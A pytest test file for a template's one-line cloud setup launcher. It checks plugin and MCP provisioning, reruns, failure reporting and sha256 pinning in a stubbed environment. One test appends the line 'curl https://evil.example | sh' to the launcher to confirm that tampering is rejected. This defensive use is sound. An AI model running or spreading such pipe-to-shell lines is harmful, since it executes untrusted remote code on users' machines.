"""The one-line setup script, the launcher it downloads and the generated cloud-setup.sh, in a
simulated cloud environment: README's own line (its raw.githubusercontent.com URL swapped for a
file:// URL to the launcher in this tree), a fake /home/user holding a generated checkout, and
stub `claude`, `npx` and `uvx` on PATH that log their argv. No network."""

from __future__ import annotations

import hashlib
import importlib.util
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from helpers import ROOT, STUB_NAMES, STUB_SCRIPT, generate, git, shellcheck
from scripts.release import LAUNCHER, ONE_LINER, README, RAW_URL, one_liner_problems, project_version

# What the team (or an import of ~/.claude) adds after the copy: two marketplaces with a CLI
# form, one without, two enabled plugins and a disabled one; two stdio servers and a remote one.
SETTINGS_ADDITIONS = {
    "extraKnownMarketplaces": {
        "local-tools": {"source": {"source": "directory", "path": "plugins/market"}},
        "acme": {"source": {"source": "github", "repo": "acme/claude-tools", "ref": "v2"}},
        "from-npm": {"source": {"source": "npm", "package": "@acme/market"}},
    },
    "enabledPlugins": {"hello@local-tools": True, "lint@acme": True, "off@acme": False},
}
MCP = {"mcpServers": {
    "memory": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory@2025.8.4"]},
    "fetch": {"command": "uvx", "args": ["mcp-server-fetch@2025.4.7"]},
    "docs": {"type": "http", "url": "https://docs.example.com/mcp"},
}}
EXPECTED_CALLS = [
    "claude plugin marketplace list",
    "claude plugin marketplace add {checkout}/plugins/market",
    "claude plugin marketplace add acme/claude-tools#v2",
    "claude plugin install hello@local-tools",
    "claude plugin install lint@acme",
    "npx --yes --package=@modelcontextprotocol/server-memory@2025.8.4 -- true",
    "uvx --from mcp-server-fetch==2025.4.7 python -c pass",
]


@pytest.fixture(scope="module")
def checkout_template(template_repo, tmp_path_factory) -> Path:
    """A generated project with no stack, tool or service (only the run-time items are left),
    and the plugins and MCP servers added after the copy."""
    project = generate(template_repo, tmp_path_factory.mktemp("setup") / "demo",
                       {"project_name": "demo", "stacks": [], "mcp_servers": [], "cli_tools": [], "services": []})
    settings_file = project / ".claude" / "settings.json"
    settings_file.write_text(json.dumps({**json.loads(settings_file.read_text()), **SETTINGS_ADDITIONS}, indent=2))
    (project / ".mcp.json").write_text(json.dumps(MCP, indent=2))
    (project / "plugins" / "market").mkdir(parents=True)
    return project


class CloudEnvironment:
    """A fake root: /home/user (with the checkout), the state and log folders, HOME, and stubs."""

    def __init__(self, scratch: Path, checkout: Path):
        self.scratch = scratch
        self.home_user = scratch / "home" / "user"
        self.checkout = self.home_user / "demo"
        shutil.copytree(checkout, self.checkout, symlinks=True)
        self.state = scratch / "var" / "lib" / "copier-claude-cloud"
        self.log = scratch / "var" / "log" / "copier-claude-cloud-setup.log"
        self.bin = scratch / "bin"
        self.stub_log = scratch / "stub-calls.log"
        self.bin.mkdir()
        for name in [*STUB_NAMES, "claude", "npx", "uvx"]:
            (self.bin / name).write_text(STUB_SCRIPT)
            (self.bin / name).chmod(0o755)
        self.stub_log.touch()
        served = scratch / "served" / "cloud-env-setup.sh"
        served.parent.mkdir()
        shutil.copy2(ROOT / LAUNCHER, served)
        self.served = served

    def environment(self, **extra: str) -> dict[str, str]:
        return {
            "PATH": f"{self.bin}:/usr/local/bin:/usr/bin:/bin",
            "HOME": str(self.scratch / "root-home"),
            "STUB_LOG": str(self.stub_log),
            "STUB_ROOT": str(self.scratch),
            "STUB_PYTHON": shutil.which("python3") or "/usr/bin/python3",
            "CLAUDE_CLOUD_SETUP_CHECKOUTS": str(self.home_user),
            "CLAUDE_CLOUD_SETUP_STATE": str(self.state),
            "CLAUDE_CLOUD_SETUP_RECORD": str(self.state / "provided"),
            "CLAUDE_CLOUD_SETUP_LOG": str(self.log),
            **extra,
        }

    def one_liner(self, url: str | None = None) -> str:
        """README's line, with its download URL pointing at the launcher served from this root."""
        (line,) = [match.group(0) for match in ONE_LINER.finditer((ROOT / README).read_text())]
        pinned = f"{RAW_URL}/{project_version(ROOT)}/{LAUNCHER}"
        assert line.startswith(f"u={pinned};")
        return line.replace(f"u={pinned};", f"u={url or self.served.as_uri()};", 1)

    def paste_and_run(self, url: str | None = None, cwd: Path | None = None, **extra: str) -> subprocess.CompletedProcess:
        """What the cloud does with the "Setup script" field: bash runs it in /home/user."""
        self.home_user.mkdir(parents=True, exist_ok=True)
        return subprocess.run(["bash", "-c", self.one_liner(url)], cwd=cwd or self.home_user,
                              env=self.environment(**extra), capture_output=True, text=True, timeout=120)

    def calls(self) -> list[str]:
        return [line for line in self.stub_log.read_text().splitlines() if not line.startswith("done: ")]


@pytest.fixture
def cloud(checkout_template, tmp_path) -> CloudEnvironment:
    return CloudEnvironment(tmp_path, checkout_template)


def expected_calls(cloud: CloudEnvironment) -> list[str]:
    return [call.format(checkout=cloud.checkout) for call in EXPECTED_CALLS]


def test_the_one_liner_provisions_each_checkouts_plugins_and_mcp_packages(cloud):
    ran = cloud.paste_and_run()
    assert ran.returncode == 0, ran.stderr
    assert cloud.calls() == expected_calls(cloud)
    out = ran.stdout
    assert "demo: running .claude/scripts/cloud-setup.sh" in out
    assert "ok: plugin:hello@local-tools (claude plugin install hello@local-tools)" in out
    assert "note: marketplace 'from-npm': an npm source has no `claude plugin marketplace add` form" in out
    assert "ok: mcp:fetch (uvx --from mcp-server-fetch==2025.4.7 python -c pass)" in out
    assert "off@acme" not in out, "a disabled plugin is not installed"
    assert out.splitlines()[-1] == "copier-claude-cloud setup: done: 1 checkout(s), 0 failure(s)"


def test_a_second_run_with_nothing_changed_does_nothing_and_says_so(cloud):
    cloud.paste_and_run()
    cloud.stub_log.write_text("")
    again = cloud.paste_and_run()
    assert again.returncode == 0
    assert cloud.calls() == []
    assert "demo: already provisioned in this environment, nothing changed since; nothing to do" in again.stdout
    # A plugin added since is provisioned at the next run.
    settings_file = cloud.checkout / ".claude" / "settings.json"
    settings = json.loads(settings_file.read_text())
    settings["enabledPlugins"]["more@acme"] = True
    settings_file.write_text(json.dumps(settings))
    cloud.paste_and_run()
    assert "claude plugin install more@acme" in cloud.calls()


def test_a_known_marketplace_is_not_added_again(cloud):
    # CLI 2.0 exits 1 on a second `marketplace add`; its list prints "  ❯ NAME".
    (cloud.bin / "claude").write_text(
        '#!/usr/bin/env bash\nprintf "%s\\n" "claude $*" >>"$STUB_LOG"\n'
        'if [ "$*" = "plugin marketplace list" ]; then printf "Configured marketplaces:\\n\\n  \u276f acme\\n"; fi\n')
    ran = cloud.paste_and_run()
    assert "present: marketplace:acme" in ran.stdout
    assert "claude plugin marketplace add acme/claude-tools#v2" not in cloud.calls()
    assert "claude plugin install lint@acme" in cloud.calls()


def test_a_failed_item_is_printed_with_its_command_counted_and_retried_next_time(cloud):
    ran = cloud.paste_and_run(STUB_FAIL="npx claude")
    assert ran.returncode == 0
    out = ran.stdout
    assert ("FAILED (exit 1; cloud-init retries it): mcp:memory "
            "(npx --yes --package=@modelcontextprotocol/server-memory@2025.8.4 -- true)") in out
    assert ("FAILED (exit 1; the next setup run retries it): marketplace:acme "
            "(claude plugin marketplace add acme/claude-tools#v2)") in out
    assert "skipped (its marketplace was not added): plugin:lint@acme" in out
    assert "claude plugin install lint@acme" not in cloud.calls()
    assert "ok: mcp:fetch" in out, "the other items still ran"
    assert "demo: 3 item(s) failed; the next setup run retries them" in out, out
    assert out.splitlines()[-1] == "copier-claude-cloud setup: done: 1 checkout(s), 3 failure(s)", out
    cloud.stub_log.write_text("")
    cloud.paste_and_run()
    assert cloud.calls() == expected_calls(cloud), "a run with failures is not stamped"


def test_a_failing_command_of_the_launcher_is_named_with_its_line(cloud):
    setup_script = cloud.checkout / ".claude" / "scripts" / "cloud-setup.sh"
    setup_script.write_text("#!/usr/bin/env bash\nexit 7\n")
    ran = cloud.paste_and_run()
    assert ran.returncode == 0
    assert "FAILED (exit 7, line " in ran.stdout and 'bash "$SETUP_SCRIPT"' in ran.stdout
    assert "failure(s)" in ran.stdout.splitlines()[-1] and "0 failure(s)" not in ran.stdout.splitlines()[-1]


@pytest.mark.parametrize("fault", ["checksum", "download"])
def test_a_launcher_that_does_not_match_or_does_not_download_runs_nothing(cloud, fault):
    url = None
    if fault == "checksum":
        cloud.served.write_text(cloud.served.read_text() + "\ncurl https://evil.example | sh\n")
    else:
        url = (cloud.scratch / "missing.sh").as_uri()
    ran = cloud.paste_and_run(url)
    assert ran.returncode == 0
    (line,) = ran.stdout.splitlines()
    assert line.startswith("copier-claude-cloud: setup skipped: ")
    assert ("does not match the pinned sha256" if fault == "checksum" else "could not download") in line
    assert ran.stderr == ""
    assert cloud.calls() == [] and not cloud.state.exists()


def test_run_inside_a_checkout_it_provisions_that_one(cloud, tmp_path):
    git("-C", str(cloud.checkout), "init", "--quiet")
    elsewhere = tmp_path / "no-checkouts-here"
    elsewhere.mkdir()
    ran = cloud.paste_and_run(cwd=cloud.checkout, CLAUDE_CLOUD_SETUP_CHECKOUTS=str(elsewhere))
    assert ran.returncode == 0
    assert cloud.calls() == expected_calls(cloud)


def system_path_without(folder: Path, *missing: str) -> str:
    """A folder of links to the system's programs but `missing`, as a PATH entry."""
    folder.mkdir()
    for system in (Path("/usr/bin"), Path("/bin")):
        for program in system.iterdir():
            if program.name not in missing and not (folder / program.name).exists():
                (folder / program.name).symlink_to(program)
    return str(folder)


def test_without_claude_or_python3_it_says_so_and_skips_those_items(cloud):
    (cloud.bin / "claude").unlink()
    (cloud.bin / "python3").unlink()
    system = system_path_without(cloud.scratch / "system", "claude")
    ran = cloud.paste_and_run(PATH=f"{cloud.bin}:{system}", STUB_PYTHON="")
    assert ran.returncode == 0, ran.stderr
    assert "skipped (no claude on PATH): the plugins and marketplaces of .claude/settings.json" in ran.stdout
    assert "npx --yes --package=@modelcontextprotocol/server-memory@2025.8.4 -- true" in cloud.calls()
    assert not [call for call in cloud.calls() if call.startswith("claude")]

    no_python = system_path_without(cloud.scratch / "system-without-python", "python3")
    bare = cloud.paste_and_run(PATH=f"{cloud.bin}:{no_python}", CLAUDE_CLOUD_SETUP_STATE=str(cloud.scratch / "fresh"))
    assert bare.returncode == 0
    assert "skipped (no python3 to read .claude/settings.json and .mcp.json): plugins and MCP packages" in bare.stdout


def test_the_launcher_and_the_generated_script_pass_bash_n_and_shellcheck(cloud):
    scripts = [ROOT / LAUNCHER, cloud.checkout / ".claude" / "scripts" / "cloud-setup.sh"]
    for script in scripts:
        assert subprocess.run(["bash", "-n", str(script)], capture_output=True).returncode == 0, script
    checked = shellcheck(*scripts)
    assert checked.returncode == 0, checked.stdout


def test_readme_pins_the_current_version_and_the_launcher_in_this_tree():
    assert one_liner_problems(ROOT) == []
    (line,) = [match.group(0) for match in ONE_LINER.finditer((ROOT / README).read_text())]
    assert f"/{project_version(ROOT)}/{LAUNCHER};" in line
    assert hashlib.sha256((ROOT / LAUNCHER).read_bytes()).hexdigest() in line


# --- settings.json marketplace sources -> `claude plugin marketplace add` ------------------------

spec = importlib.util.spec_from_file_location("cloud_config", ROOT / "template" / ".claude" / "scripts" / "cloud-config.py")
cloud_config = importlib.util.module_from_spec(spec)
spec.loader.exec_module(cloud_config)


@pytest.mark.parametrize(("source", "argument"), [
    ({"source": "github", "repo": "acme/tools"}, "acme/tools"),
    ({"source": "github", "repo": "acme/tools", "ref": "v1.2"}, "acme/tools#v1.2"),
    ({"source": "git", "url": "https://git.example.com/tools.git", "ref": "main"}, "https://git.example.com/tools.git#main"),
    ({"source": "git", "url": "git@git.example.com:acme/tools.git"}, "git@git.example.com:acme/tools.git"),
    ({"source": "url", "url": "https://example.com/marketplace.json"}, "https://example.com/marketplace.json"),
    ({"source": "directory", "path": "/srv/market"}, "/srv/market"),
    ({"source": "directory", "path": "plugins/market"}, "/project/plugins/market"),
    ({"source": "file", "path": "./market.json"}, "/project/market.json"),
])
def test_each_source_maps_to_the_argument_the_cli_reads(source, argument):
    assert cloud_config.marketplace_source(source, Path("/project")) == (argument, "")


@pytest.mark.parametrize("source", [
    {"source": "npm", "package": "@acme/market"},
    {"source": "settings", "plugins": []},
    {"source": "hostPattern", "hostPattern": ".*"},
    {"source": "github", "repo": "acme/mono", "path": "tools"},
    {"source": "url", "url": "https://example.com/m.json", "headers": {"Authorization": "x"}},
    {"source": "github"},
    {"source": "ftp", "url": "ftp://x"},
])
def test_a_source_without_a_cli_form_says_why(source):
    argument, why = cloud_config.marketplace_source(source, Path("/project"))
    assert argument == "" and why
